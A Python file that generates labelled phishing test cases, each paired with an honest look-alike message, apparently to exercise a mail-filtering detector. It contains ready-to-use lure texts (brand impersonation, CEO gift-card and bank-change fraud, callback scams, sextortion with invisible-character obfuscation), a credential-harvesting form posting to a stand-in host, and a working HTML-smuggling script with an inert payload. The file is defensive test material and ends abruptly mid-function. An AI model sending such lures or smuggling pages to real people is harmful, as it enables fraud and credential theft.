"""What make-lure-stories tells: each attack with what it retells, and beside it honest mail that differs in what matters."""
import base64, hashlib, io, zipfile

from lure_parts import (File, GMAIL, GMAIL_SIGNER, GOOGLE_SHARES, READER, Road, SENDGRID, Story, button, mailgun, mailgun_click,
                        microsoft365, page)


# ---- 1: the hijacked account of a restaurant chain at a mail service (2021)
CHAIN, CHAIN_HOST = 'Casa Verano', 'mail.casaverano.example'


def of_chain(folder, why, verdict, name, subject, **more):
    return Story(folder, why, verdict, name, f'{"postmaster" if verdict != "clean" else "hola"}@{CHAIN_HOST}', subject, road=mailgun(CHAIN_HOST),
                 sender=f'bounce+7c1d0e.4b5d1-reader=harbour.example@{CHAIN_HOST}', signers=((CHAIN_HOST, 'mx', 'rsa-one.pem'),), **more)


def mailgun_hijacked():
    yield of_chain('mailgun-hijacked-microsoft', 'a restaurant chain\'s account at a mail service, hijacked: perfectly proved, dressed as Microsoft, '
                   'and the link is the chain\'s own click host', 'suspicious', 'Microsoft account team',
                   'Unusual sign-in activity on your Microsoft account', fires=('account-as-foreign-brand', 'brand-links-elsewhere'), html=page(
        '<p><font size="5" color="#737373">Microsoft</font></p>\n<p><b>Your password expires today</b></p>\n'
        '<p>We noticed a sign-in to <b>reader@harbour.example</b> from a new device. To keep using your mailbox you must confirm your '
        'account within 24 hours, otherwise incoming messages will be held.</p>\n' +
        button(mailgun_click(CHAIN_HOST, 9), 'Keep current password') +
        '<p style="font-size:11px">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>'))
    yield of_chain('mailgun-hijacked-bank', 'the same account dressed as a bank; the link goes to a host that nobody vouches for', 'malicious',
                   'USAA', 'USAA: action required on your account',
                   fires=('brand-in-name', 'brand-proved-other', 'brand-links-elsewhere', 'sign-in-unvouched'), html=page(
        '<p style="background:#12395b;color:#ffffff;padding:10px"><b>USAA</b></p>\n<p>Dear member,</p>\n<p>We could not verify a recent '
        'change to your profile. Access to your USAA accounts is limited until you confirm your identity.</p>\n<p>Please have your member '
        'number, PIN and the card ending you use most at hand.</p>\n' +
        button('https://member-review.quiet-orchard.example/inet/ent_logon', 'Verify my account', '#12395b') +
        '<p style="font-size:11px">USAA, 9800 Fredericksburg Road, San Antonio, Texas 78288</p>'))
    yield of_chain('mailgun-hijacked-voicemail', 'the same account says that a voicemail waits; it is a page with a false sign-in', 'suspicious',
                   'Voice Mail Center', 'You have (1) new voice message from +1 210 555 0117', fires=('page-password', 'page-message'), text="""
A caller left you a voice message.

  Caller:    +1 210 555 0117
  Received:  Saturday, 31 January 2026
  Length:    00:43

Open the attached file to listen to the message. It is deleted
after 24 hours.
""", files=(File('text/html', 'VM_0117_00-43.html', voicemail_page()),))
    yield of_chain('mailgun-hijacked-honest', 'near miss: the chain\'s own newsletter with a coupon, through the same account', 'clean', CHAIN,
                   'Your table, our treat: 20 % off this week', fires=('aligned-pass',), silent=('brand-in-name', 'brand-links-elsewhere'), more=(
        f'List-Unsubscribe: <mailto:u+4b5d1@{CHAIN_HOST}?subject=unsubscribe>, <https://email.{CHAIN_HOST}/u/4b5d1>\n'
        'List-Unsubscribe-Post: List-Unsubscribe=One-Click\n'), text=f"""
Hola,

bring this mail and get 20 % off any lunch until Sunday.
Code: VERANO20

See the menu: {mailgun_click(CHAIN_HOST, 1)}

Casa Verano, 14 Mill Quay. To leave this list: https://email.{CHAIN_HOST}/u/4b5d1
""", html=page(f'<p align="center"><img src="https://www.casaverano.example/img/lunch.jpg" alt="Lunch at Casa Verano" width="560"></p>\n'
               '<p>Hola,</p>\n<p>bring this mail and get <b>20 % off</b> any lunch until Sunday. Code: <b>VERANO20</b></p>\n' +
               button(mailgun_click(CHAIN_HOST, 1), 'See the menu', '#b5472c') +
               '<p>New on the grill: sardines with lemon salt, peppers from our own garden, and the orange cake you asked us to bring back.</p>\n'
               f'<p style="font-size:11px">Casa Verano, 14 Mill Quay<br><a href="https://email.{CHAIN_HOST}/u/4b5d1">Unsubscribe</a></p>', '#fff8ef'))


def voicemail_page():
    return ('<html><head><title>Voice message</title></head><body style="font-family:Segoe UI">\n<h3>Sign in to listen</h3>\n'
            '<form method="post" action="https://listen.quiet-orchard.example/vm/collect.php">\n'
            f'<input type="email" name="login" value="{READER}" readonly>\n<input type="password" name="passwd" placeholder="Password">\n'
            '<button type="submit">Play message</button></form>\n<p>Because you are accessing sensitive information, verify your mailbox password.</p>'
            '\n</body></html>\n')


# ---- 2: a partner's hijacked mailbox asks for an offer (2020)
PARTNER = 'lindqvist-marine.example'
PARTNERS = f'own_domains: [harbour.example]\nown_names: [Harbour Trading]\npartners: [{PARTNER}]\n'


def of_partner(folder, why, verdict, subject, **more):
    return Story(folder, why, verdict, 'Annika Lindqvist', f'annika@{PARTNER}', subject, people=PARTNERS,
                 road=microsoft365('5d0f7a31-2b9c-4e11-9a77-40c3d1e8b6f2', PARTNER), signers=((PARTNER, 'selector1', 'rsa-one.pem'),), **more)


def partner_rfp():
    yield of_partner('partner-rfp', 'a trusted partner\'s hijacked mailbox: a request for an offer whose link text hides a stranger\'s file share', 'suspicious',
                     'RFP - Lindqvist Marine / Harbour Trading', fires=('share-of-stranger', 'sign-in-unvouched'), html=page(
        '<p>Good morning,</p>\n<p>Lindqvist Marine invites you to bid on the project described in the attached request for proposal. '
        'Please review the document and return your offer by Monday.</p>\n'
        '<p><a href="https://brightpath77-my.sharepoint.com/:b:/g/personal/docs_brightpath77_onmicrosoft_com/EfT3yQ0aVbxLm2?e=4Rk1Zp">'
        'RFP_Lindqvist_Marine_2026.pdf</a></p>\n<p>The document is protected: sign in with your work e-mail to view it.</p>\n'
        '<p>Kind regards<br>Annika Lindqvist<br>Lindqvist Marine AB</p>'))
    yield of_partner('partner-rfp-honest', 'near miss: the partner\'s honest request for an offer, on its own share', 'clean', 'RFP: winter covers for 14 berths',
                     fires=('aligned-pass',), html=page(
        '<p>Hello,</p>\n<p>as discussed on the phone on Thursday we need winter covers for berths 3 to 16. The drawings and the form for the offer are here:</p>\n'
        '<p><a href="https://lindqvistmarine.sharepoint.com/:f:/s/Purchasing/EkQ1nW8xTtVDl0Z?e=pQ72aa">RFP winter covers 2026</a></p>\n'
        '<p>We would like to have your offer by 20 February. Ring me if a measure is missing: you have my number.</p>\n'
        '<p>Best wishes<br>Annika Lindqvist<br>Lindqvist Marine AB, Varvsgatan 4</p>'))


# ---- 3: a QR code as the only way on. Both pictures were made by qrencode -s 4 -l M of the address named beside them.
QR_ENROL = base64.b64decode(  # https://mfa.enrol-desk.example/e/reader?k=7Qf2
    'iVBORw0KGgoAAAANSUhEUgAAAKQAAACkAQMAAAAjexcCAAAABlBMVEUAAAD///+l2Z/dAAAAAnRSTlP//8i138cAAAAJcEhZcwAACxIAAAsSAdLdfvwAAAE+SURBVEiJ7ZZB'
    'kgMxCAP1A/7/S37ASprxbM1ubugYJ1Uptw8EIbAxnxa+NEcB1BTQ4M6bDC19q1FVXd6EKPfdCsuPNkHKaMyjOk67mQf+RttRHUh0xnprtqMq4LNeNd7R4ziKg3+eXFCW'
    'slzIciYx2trBlmYSR509pUVoj65hKAsVoiPXGbUbcUJUvSdfq5Y6SVFIdwpjD1KpClGqLrVbZ5S/J0XdKbiGBvsxRUezYsylUIxKaOAKrJWiCqRC8kwpPO5b07GbPe8a'
    'jzpr+tRSbpkcHesN60Lr3e7bU0mjEJpK4inasskzMk4191T9pyLagagY1dJfb98gmApR3PdH39fThKhTqCuF0oxOUb9WfKbIZypHqLpFb4rfqZGhdjP083pz7agMrUbs'
    '68qbEPVrhXNZ0x51pv2eflhfmqI/T2yMIXV1mugAAAAASUVORK5CYII=')
QR_TICKET = base64.b64decode(  # https://tickets.tidewater-concerts.example/t/88214-QK
    'iVBORw0KGgoAAAANSUhEUgAAAKQAAACkAQMAAAAjexcCAAAABlBMVEUAAAD///+l2Z/dAAAAAnRSTlP//8i138cAAAAJcEhZcwAACxIAAAsSAdLdfvwAAAE3SURBVEiJ7ZZR'
    'csQgDEN1A9//lrqBa4mw3Xb2z/pcMkngMRNjW5igPzV8aY4CqHnojTPI0HkWm+AdpCiqSgzPIEg1Uc2qMJ3G8YVRqgmKyNp7zHZUCXy1PzneUbVZ/PT4T5M7WjLAUYmD'
    'LmMZCg7ULMcieH1bU04eh9ApLXmToaULMyN/+uXbnrrrvUgFKUU5NsYJlFD1jc6aWiR6K/oz1SFKi+QoerJaKepR62q7USEqndQpyIoPUnS+7/LpLt/Ut6SzcrreawvyVr'
    'k9VYdXzkR3iKpyuicRynCIzrJxPChp7+6hPfU9y+cjxRgdS9B52sdmiN5teA6nQorimKBL/at67mk58N7j53coRWETT05/a2qE+riDxV1BqlPk1GRWp6irBfwjxEKMHvG5'
    '2OskYYp+aF+aoj/hmV0FF+eqtgAAAABJRU5ErkJggg==')


def qr_code():
    yield Story('qr-code', '"your second factor ends": a QR code is the only way on, so that the phone and not the office\'s browser opens it', 'suspicious',
                'Microsoft Authenticator', 'noreply@staff-notice-centre.example', 'Action required: renew your multi-factor authentication today',
                fires=('qr-only-link', 'brand-proved-other'),
                html=page('<p><b>Microsoft</b> Security</p>\n<p>Your multi-factor authentication expires on 31 January 2026. After this date you can no longer '
                          'sign in to your mailbox.</p>\n<p>Scan the code with the camera of your phone and sign in with your work account to keep access.</p>\n'
                          '<p align="center"><img src="cid:qr1" width="164" height="164" alt=""></p>\n'
                          '<p style="font-size:11px">This is an automatic message. Do not share the code.</p>'),
                files=(File('image/png', 'image001.png', QR_ENROL, 'qr1'),))
    yield Story('qr-code-honest', 'near miss: a concert ticket with a code that leads to the organiser', 'clean', 'Tidewater Concerts',
                'tickets@tidewater-concerts.example', 'Your ticket: Ostrava Quintet, 14 February',
                fires=('aligned-pass',), silent=('qr-only-link', 'qr-lure'),
                html=page('<p>Dear Ms Marsh,</p>\n<p>thank you for your order 88214. This is your ticket.</p>\n<p><b>Ostrava Quintet</b><br>Saturday, 14 February 2026, '
                          '19:30<br>Old Customs Hall, row 6, seat 11</p>\n<p align="center"><img src="cid:qr1" width="164" height="164" alt="Ticket 88214-QK"></p>\n'
                          '<p>Show the code at the entrance, on paper or on your phone. You can also open the ticket at '
                          '<a href="https://tickets.tidewater-concerts.example/t/88214-QK">tickets.tidewater-concerts.example</a>.</p>\n'
                          '<p>Tidewater Concerts, Old Customs Hall, Quay 2</p>'),
                files=(File('image/png', 'ticket-88214.png', QR_TICKET, 'qr1'),))


# ---- 4: a page that builds an archive in the browser, past every filter of files
PAYLOAD = ''.join(f'// {hashlib.sha256(bytes([n])).hexdigest()}\n' for n in range(24))  # as long as a real one, and does nothing


def zipped(name, text):
    held = io.BytesIO()
    with zipfile.ZipFile(held, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 1, 31, 11, 0, 0)), text)
    return base64.b64encode(held.getvalue()).decode()


def smuggling_page():
    return ('<!doctype html><html><head><title>Remittance</title></head><body>\n<p>Your document is being prepared. If the download does not start, '
            'press <a id="d" href="#">here</a>. Password: 3110</p>\n<script>\n'
            f'var z="{zipped("Remittance_Advice.js", PAYLOAD)}";\n'
            'var s=atob(z),n=new Uint8Array(s.length);for(var i=0;i<s.length;i++){n[i]=s.charCodeAt(i);}\n'
            'var b=new Blob([n],{type:"application/zip"}),a=document.getElementById("d");\n'
            'a.href=URL.createObjectURL(b);a.download="Remittance_Advice.zip";a.click();\n</script></body></html>\n')


def report_page():
    rows = ''.join(f'<tr><td>{day} January</td><td>{visits}</td></tr>\n' for day, visits in ((28, 412), (29, 398), (30, 455)))
    return ('<!doctype html><html><head><title>Visits of the week</title><style>td{padding:4px 12px}</style></head><body>\n<h2>Visits of the week</h2>\n'
            f'<table id="t"><tr><th>Day</th><th>Visits</th></tr>\n{rows}</table>\n<p>Sort by pressing a column. <button id="save">Save as CSV</button></p>\n<script>\n'
            'document.querySelectorAll("th").forEach(function(h,c){h.onclick=function(){var t=document.getElementById("t"),\n'
            ' r=Array.from(t.rows).slice(1);r.sort(function(a,b){return a.cells[c].innerText<b.cells[c].innerText?-1:1;});\n'
            ' r.forEach(function(x){t.appendChild(x);});};});\n'
            'document.getElementById("save").onclick=function(){var a=document.createElement("a");a.download="visits.csv";\n'
            ' a.href=URL.createObjectURL(new Blob([document.getElementById("t").innerText],{type:"text/csv"}));a.click();};\n</script></body></html>\n')


def envelope_page():
    return ('<!doctype html><html><head><title>Secure mail of Nordkai Savings Bank</title></head><body style="font-family:Arial">\n'
            '<p><img alt="Nordkai Savings Bank" src="data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs="></p>\n'
            '<p>This is an encrypted message. It is opened at the bank\'s own server.</p>\n'
            '<form method="post" action="https://securemail.nordkai-bank.example/formpostdir/open">\n'
            f'<input type="hidden" name="rcpt" value="{READER}">\n<input type="hidden" name="blob" value="{base64.b64encode(b"sealed " * 60).decode()}">\n'
            '<input type="submit" value="Open message"></form>\n'
            '<p>Help: <a href="https://securemail.nordkai-bank.example/help">securemail.nordkai-bank.example</a></p></body></html>\n')


def html_smuggling():
    yield Story('html-smuggling', 'a small firm\'s taken-over mailbox sends a page whose script builds an archive and saves it', 'suspicious', 'Accounts Payable',
                'office@brackwater-joinery.example', 'Remittance advice 31.01.2026', policy='none', fires=('page-smuggling', 'page-lure'), text="""
Dear Sir or Madam,

please find attached the remittance advice for the payment made
today. Open the file and save the document to your computer.

Accounts Payable
""", files=(File('text/html', 'Remittance_Advice_31012026.html', smuggling_page()),))
    yield Story('html-smuggling-honest', 'near miss: a saved report, a page whose script sorts its table and saves it as CSV', 'clean', 'Petra Almgren',
                'petra@brackwater-joinery.example', 'Visits of our shop page, week 5',
                fires=('aligned-pass',), silent=('page-smuggling', 'page-redirect'), policy='none', text="""
Hi,

here are last week's figures as a page, saved from the statistics.
You can sort it by pressing the head of a column.

Petra
""", files=(File('text/html', 'visits-week-5.html', report_page()),))
    yield Story('secure-mail-honest', 'near miss: a bank\'s sealed mail, a page with a form that goes to the bank\'s own host', 'clean', 'Nordkai Savings Bank',
                'advisers@nordkai-bank.example', 'You have received an encrypted message',
                fires=('aligned-pass',), silent=('page-password', 'page-form', 'page-smuggling'), text="""
Dear Ms Marsh,

your adviser Jonas Petersen has sent you an encrypted message. Save
the attached file, open it in your browser and press "Open message".
It opens at securemail.nordkai-bank.example with the pass phrase
that you chose at our counter.

We never ask for your pass phrase by mail or on the telephone.

Nordkai Savings Bank, Market Square 3
""", files=(File('text/html', 'securemessage.html', envelope_page()),))


# ---- 5: an invoice that wants to be called about
def intuit(folder, why, verdict, name, reply, subject, **more):
    return Story(folder, why, verdict, name, 'quickbooks@notification.intuit.com', subject, road=SENDGRID,
                 sender='bounces+4417-reader=harbour.example@e.notification.intuit.com', own_ip='167.89.66.23',
                 signers=(('notification.intuit.com', 's1', 'rsa-two.pem'),), more=f'Reply-To: {reply}\n', **more)


def invoice_page(firm, lines, pay, total):
    return page(f'<p><font size="5">{firm}</font></p>\n{lines}\n<p><b>Balance due: {total}</b></p>\n' + button(pay, 'Review and pay', '#2ca01c') +
                f'<p>{firm}</p>\n<p style="font-size:11px">Powered by QuickBooks. <a href="https://quickbooks.intuit.com/privacy">Privacy</a> &copy; Intuit Inc.</p>')


def callback_invoice():
    yield intuit('callback-invoice', 'a renewal that nobody ordered, written with a real invoicing service: all is proved, and the telephone is the trap', 'suspicious',
                 'Norton 360 Renewal Desk', 'renewal.desk.made.up.story@gmail.com', 'Invoice 70318 from Norton 360 Renewal Desk', fires=('reply-free-mail', 'call-stranger'), html=invoice_page(
        'Norton 360 Renewal Desk', '<p>Dear customer,</p>\n<p>Thank you for your order. Your Norton 360 subscription was renewed for three years and '
        '<b>$489.99</b> will be charged to your account within 24 hours.</p>\n<p>If you did not authorize this payment, call our billing department at once to cancel it '
        'and get a refund: <b>+1 (805) 555-0142</b>. Do not reply to this e-mail.</p>', 'https://connect.intuit.com/t/scs-v1-70318a', '$489.99'))
    yield intuit('callback-invoice-honest', 'near miss: a small firm\'s real invoice through the same service', 'clean', 'Tarn & Sons Plumbing',
                 'office@tarn-plumbing.example', 'Invoice 1182 from Tarn & Sons Plumbing',
                 fires=('aligned-pass',), silent=('reply-free-mail', 'brand-in-name'), html=invoice_page(
        'Tarn &amp; Sons Plumbing', '<p>Dear Ms Marsh,</p>\n<p>here is our invoice for the new pump in the boat house, fitted on 22 January as agreed. Please pay '
        'within 30 days.</p>\n<p>Questions about it? Call Ben on (805) 555-0177.</p>', 'https://connect.intuit.com/t/scs-v1-1182c', '$212.40'))
    yield Story('callback-renewal', 'the same trap from free mail: a receipt, a number to call, and no link at all', 'malicious', 'Billing Department',
                'orders.made.up.story.5521@gmail.com', 'Your order GS-55217 has been confirmed', road=GMAIL, signers=GMAIL_SIGNER, policy='none', fires=('callback', 'office-free-mail', 'call-stranger', 'bill-free-mail'), text="""
Dear Customer,

Thank you for renewing Geek Squad Total Protection.

  Order        GS-55217
  Product      Total Protection, 3 years
  Amount       $399.00
  Payment      automatic debit, today

The amount will appear on your bank statement within 24 hours. If
you did not make this purchase or wish to cancel and get a refund,
call our support team immediately:

  +1 (888) 555-0163

Billing Department
""")
    yield Story('callback-renewal-honest', 'near miss: a small club writes from free mail that the yearly fee was paid, and whom to call', 'clean', 'Harbour Rowing Club',
                'harbour.rowing.made.up.story@gmail.com', 'Your membership for 2026', road=GMAIL, signers=GMAIL_SIGNER, policy='none',
                fires=('aligned-pass',), silent=('office-free-mail',), text="""
Dear Helena,

thank you, your fee of 60 pounds for 2026 has arrived. Your new key
for the boat house is with Tom; call him on 01632 960 114 when you
want to fetch it.

The season opens on Saturday, 4 April, with tea and the new double
scull. Bring cake if you can.

See you on the water
Ruth
""")


# ---- 6: a brand's dress over a bought domain
def bought_domain_brand():
    yield Story('bought-domain-brand', 'a streaming brand over a domain bought for it: everything proved, one picture, a button to a foreign host', 'malicious',
                'Netflix', 'info@account-mailer-desk.example', 'Your membership is on hold',
                fires=('brand-in-name', 'brand-links-elsewhere', 'brand-proved-other', 'account-ends-unvouched'), html=page(
        '<p align="center"><img src="https://cdn.pixel-loft.example/n/header.png" width="560" alt="Netflix"></p>\n<p>Hi,</p>\n<p>We could not process your last payment. '
        'Your membership will be cancelled within 48 hours unless you update your payment details.</p>\n' +
        button('https://renewal.pixel-loft.example/n/login?c=831', 'Update account now', '#e50914') + '<p>Your friends at Netflix</p>'))
    yield Story('bought-domain-parcel', 'a parcel brand over another such domain; the message is one picture that leads to a foreign host', 'malicious',
                'DHL Express', 'shipment@sendung-mailer.example', 'Your parcel is waiting: delivery address incomplete',
                fires=('brand-links-elsewhere', 'one-image-unvouched'), html=page(
        '<p align="center"><a href="https://track.pixel-loft.example/d/0034?m=2"><img src="https://cdn.pixel-loft.example/d/notice.png" width="600" '
        'alt="DHL: confirm your address"></a></p>'))
    yield Story('bought-domain-brand-honest', 'near miss: a shop\'s newsletter that names the brand among what it sells', 'clean', 'Kestrel Hi-Fi',
                'news@kestrel-hifi.example', 'New: a television set with Netflix built in',
                fires=('aligned-pass',), silent=('brand-in-name', 'brand-logo'), more=(
        'List-Unsubscribe: <https://www.kestrel-hifi.example/leave?n=118>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n'), html=page(
        '<p><img src="https://www.kestrel-hifi.example/img/head.png" alt="Kestrel Hi-Fi" width="560"></p>\n<p>Good morning,</p>\n<p>the new 48-inch set from Orvel is in the '
        'shop. Netflix and four other services run on it without a box, and the sound no longer needs an excuse.</p>\n' +
        button('https://www.kestrel-hifi.example/tv/orvel-48', 'See the set', '#334455') + '<p>We still have three of the old model at 20 % less. Demonstrations on Saturday '
        'from ten.</p>\n<p style="font-size:11px">Kestrel Hi-Fi, 8 Chandler Row. <a href="https://www.kestrel-hifi.example/leave?n=118">Unsubscribe</a></p>'))


# ---- 7: the boss wants gift cards
PEOPLE = """
own_domains: [harbour.example]
own_names: [Harbour Trading]
people:
  - name: Helena Marsh
    addresses: [helena.marsh@harbour.example, helena.marsh.made.up.story@gmail.com]
    title: CEO
"""


def gift_card_boss():
    yield Story('gift-card-boss', 'the head\'s name over a free mailbox: a small errand, at once, and nobody must know', 'suspicious', 'Helena Marsh',
                'office.desk.made.up.story.77@gmail.com', 'Quick task', road=GMAIL, signers=GMAIL_SIGNER, policy='none', people=PEOPLE,
                fires=('person-outside', 'person-free-mail', 'gift-card-task', 'secret-money'), text="""
Are you available? I am in a meeting and cannot talk on the phone.
I need you to buy five Apple gift cards for clients today. Keep this
between us for now, it is a surprise. Reply as soon as you get this
and I will tell you the amount.

Helena Marsh
CEO
Sent from my iPhone
""")
    yield Story('gift-card-boss-honest', 'near miss: the head writes from the private mailbox that is listed for her', 'clean', 'Helena Marsh',
                'helena.marsh.made.up.story@gmail.com', 'Late on Monday', road=GMAIL, signers=GMAIL_SIGNER, policy='none', people=PEOPLE,
                fires=('aligned-pass', 'person-known'), silent=('person-free-mail', 'person-outside'), text="""
Morning,

my train is cancelled, so I shall not be in before eleven on Monday.
Could you start the meeting without me? The list for the spring
stock is on my desk, the blue folder.

Helena
""")


# ---- 8: new bank details in an old thread
THREAD = 'In-Reply-To: <41c2@harbour.example>\nReferences: <9b07@lindqvist-marine.example> <41c2@harbour.example>\n'
QUOTED = """
On Thu, 29 Jan 2026 at 16:20, Reader <reader@harbour.example> wrote:
> Dear Annika,
> invoice 2207 over EUR 18,460 will be paid on Monday.
> Best wishes"""


def bank_change():
    yield Story('bank-change-lookalike', 'a partner\'s name with two letters for one answers in the thread: pay to another account', 'suspicious', 'Annika Lindqvist',
                'annika@lindqvist-rnarine.example', 'Re: Invoice 2207', people=PARTNERS, more=THREAD, fires=('lookalike-partner', 'money-lookalike'), text=f"""
Dear all,

thank you. Please note that our bank account has changed because of
an audit; the old account can no longer receive payments. Kindly send
the payment for invoice 2207 to our new account:

  Beneficiary   L M Holding Ltd
  IBAN          GB33 BUKB 2020 1555 5555 55
  BIC           BUKBGB22

Please confirm by e-mail when the transfer is made today, I am
travelling and cannot be reached by telephone.

Annika Lindqvist
Lindqvist Marine AB
{QUOTED}
""")
    yield of_partner('bank-change-lookalike-honest', 'near miss: the partner announces a new account long before, on paper too, and asks to be called', 'clean',
                     'Re: Invoice 2207', fires=('aligned-pass', 'partner-proved'), silent=('lookalike-partner',), more=THREAD, text=f"""
Dear all,

thank you, Monday is fine.

From 1 April we shall have a new bank account. You will get the
details by letter, signed by both of us; please ring me at the number
you have before you change anything. Invoice 2207 still goes to the
account you know.

Best wishes
Annika Lindqvist
Lindqvist Marine AB
{QUOTED}
""")


# ---- 9: a shared document behind a search engine's redirector, on free pages
def bing(url):
    return 'https://www.bing.com/ck/a?!&&p=7f1c0a2be3&ptn=3&ver=2&hsh=4&u=a1' + base64.urlsafe_b64encode(url.encode()).decode().rstrip('=') + '&ntb=1'


def shared_file():
    yield Story('shared-file-free-host', '"a document was shared with you": the button goes through a search engine to a page on free hosting', 'malicious',
                'Shared Documents', 'notice@brackwater-joinery.example', 'Reader, a document was shared with you', policy='none',
                fires=('link-open-redirect', 'main-link-anybody', 'free-page-main', 'shared-unvouched'), html=page(
        '<p><b>OneDrive</b></p>\n<p>A file was shared with you.</p>\n<p>&#128196; <b>Payroll_Adjustment_Q1.pdf</b><br>This link only works for '
        f'{READER}.</p>\n' + button(bing('https://docs-portal-made-up-story.pages.dev/view/?e=' + READER), 'Open document') +
        '<p style="font-size:11px">Sign in with your e-mail to view the document.</p>'))
    yield Story('shared-file-honest', 'near miss: Google Drive tells that a person shared a file', 'clean', 'Ingrid Sole (via Google Drive)',
                'drive-shares-dm-noreply@google.com', 'Document shared with you: "Programme spring concert"', road=GOOGLE_SHARES,
                sender='3abX0aRgKDqkdrive-shares-dm-noreplygoogle.com@doclist.bounces.google.com', signers=(('google.com', '20230601', 'rsa-two.pem'),),
                more='Reply-To: Ingrid Sole <ingrid.sole.made.up.story@gmail.com>\n',
                fires=('aligned-pass',), silent=('link-open-redirect', 'free-page-main', 'main-link-anybody'), html=page(
        '<p><b>Ingrid Sole shared a document</b></p>\n<p>Ingrid Sole (ingrid.sole.made.up.story@gmail.com) has invited you to <b>comment on</b> the following document:</p>\n'
        '<p><a href="https://docs.google.com/document/d/1mAdEuPsToRy0Zq8/edit?usp=sharing_eil_m&amp;ts=697df2aa">Programme spring concert</a></p>\n' +
        button('https://docs.google.com/document/d/1mAdEuPsToRy0Zq8/edit?usp=sharing_eip_m&amp;ts=697df2aa', 'Open', '#1a73e8') +
        '<p style="font-size:11px">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because '
        'ingrid.sole.made.up.story@gmail.com shared a document with you from Google Docs.</p>'))


# ---- 10: the own domain, from outside
OWN = 'own_domains: [harbour.example]\nown_names: [Harbour Trading]\n'


def own_domain():
    yield Story('own-domain-unproved', 'the reader\'s own help desk, from outside and unproved: the password expires', 'malicious', 'Harbour IT Help Desk',
                'helpdesk@harbour.example', 'Your password expires in 24 hours', people=OWN, proved=False, policy='none', signers=(),
                road=Road('vm-81.cloud-minami.example', '203.0.113.81'), own_ip='198.51.100.10',
                fires=('own-domain-unproved', 'password-unvouched'), html=page(
        '<p>Dear user,</p>\n<p>the password of <b>reader@harbour.example</b> expires in 24 hours. To avoid losing access to your mailbox, keep your current password '
        'with the button below.</p>\n' + button('https://portal.webdesk-login.example/owa/?u=reader', 'Keep my password') + '<p>IT Help Desk<br>harbour.example</p>'))
    yield Story('own-domain-honest', 'near miss: the own help desk, proved, says that passwords change and names no page', 'clean', 'Harbour IT Help Desk',
                'helpdesk@harbour.example', 'New rules for passwords from 1 March', people=OWN, road=Road('out.harbour.example', '198.51.100.10'),
                fires=('aligned-pass',), silent=('own-domain-unproved',), text="""
Dear colleagues,

from 1 March passwords have at least fourteen characters and no
longer expire. You will be asked for a new one when you start your
computer in the office that week; nothing is to be done by mail.

Questions: extension 114, or come by.

IT Help Desk
""")


# ---- 11: another's address as the name
def display_name():
    yield Story('display-name-address', 'the name shown is the address of another firm, which a phone shows alone', 'suspicious', 'accounts@kontor-weiss.example',
                'lm7734@rowan-petsitting.example', 'Overdue: statement of account for January', policy='none', fires=('name-address-lure',), html=page(
        '<p>Good day,</p>\n<p>our records show that invoice KW-3381 is still unpaid. Please open the statement and arrange payment today to avoid additional charges.</p>\n' +
        button('https://kw-statement.pixel-loft.example/s/3381', 'View statement', '#333333') + '<p>Accounts<br>Kontor Weiss</p>'))
    yield Story('display-name-address-honest', 'near miss: a list whose domain stands for its members writes the author\'s address into the name', 'clean',
                'mira@aldous-quilts.example via Quilters', 'quilters@lists.needle-and-thread.example', '[Quilters] Batting for a summer quilt?',
                fires=('aligned-pass',),
                silent=('from-name-is-address', 'name-address-lure'), sender='quilters-bounces@lists.needle-and-thread.example', to='quilters@lists.needle-and-thread.example', more=(
        'Reply-To: mira@aldous-quilts.example\nList-Id: Quilters <quilters.lists.needle-and-thread.example>\nPrecedence: list\n'
        'List-Post: <mailto:quilters@lists.needle-and-thread.example>\nList-Unsubscribe: <mailto:quilters-leave@lists.needle-and-thread.example>\n'), text="""
Hello everybody,

my niece wants a quilt that she can use in July. Has anybody tried
bamboo batting, and does it survive the machine?

Mira

_______________________________________________
Quilters mailing list -- quilters@lists.needle-and-thread.example
""")


# ---- 12: extortion, its words broken by invisible letters
def coin_address(words):
    """A Bitcoin address with a right checksum whose key nobody has: its hash is the beginning of a digest of `words`."""
    raw = b'\0' + hashlib.sha256(words.encode()).digest()[:20]
    raw += hashlib.sha256(hashlib.sha256(raw).digest()).digest()[:4]
    number, text = int.from_bytes(raw, 'big'), ''
    while number:
        number, rest = divmod(number, 58)
        text = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'[rest] + text
    return '1' + text


def broken(text, *words):
    for word in words:
        text = text.replace(word, '\u200c'.join(word))
    return text


def extortion():
    coin = coin_address('an address of a story, to which nobody has the key')
    demand = f"""I have had full access to your computer for months. My program switched
on your webcam and recorded a video of you, and I have your contacts
and your password.

Pay 1,250 US dollars in bitcoin to this wallet within 48 hours:

{coin}

If you do not pay, I will send the video to everyone you know. Do not
go to the police. The time starts now."""
    yield Story('extortion-disguised', 'extortion with a recorded video; letters of no width break its words, and the wallet is well formed', 'suspicious',
                'Greta Holm', 'ksj4410@orchard-lane-vets.example', 'Your time is running out', policy='none',
                fires=('extortion-coin', 'words-invisible'),
                text=broken(demand, 'webcam', 'recorded', 'video', 'password', 'bitcoin', 'wallet', 'police'))
    quoted = '\n'.join('> ' + line for line in demand.split('\n'))
    yield Story('extortion-disguised-honest', 'near miss: a colleague quotes such a mail to warn of it', 'clean', 'Priya Raman', 'priya@harbour.example',
                'Warning: blackmail mails are going round', people=OWN, road=Road('out.harbour.example', '198.51.100.10'),
                fires=('aligned-pass',), text=f"""
Dear all,

several of you got a mail like the one below. It is a fraud: there is
no video and nobody has your password. Do not pay and do not answer;
report it with the button in Outlook and delete it.

{quoted}

If you are worried, come to me or call extension 120.

Priya
""")


# ---- 13: an invitation nobody expected
def invitation(summary, organiser, name, place, about):
    folded = '\n'.join(line if len(line) <= 74 else line[:74] + '\n ' + line[74:] for line in (
        'BEGIN:VCALENDAR', 'PRODID:-//made up//stories//EN', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', f'UID:20260131-5e1b@{organiser.split("@")[1]}',
        'DTSTAMP:20260131T115800Z', 'DTSTART:20260202T090000Z', 'DTEND:20260202T093000Z', f'SUMMARY:{summary}', f'ORGANIZER;CN={name}:mailto:{organiser}',
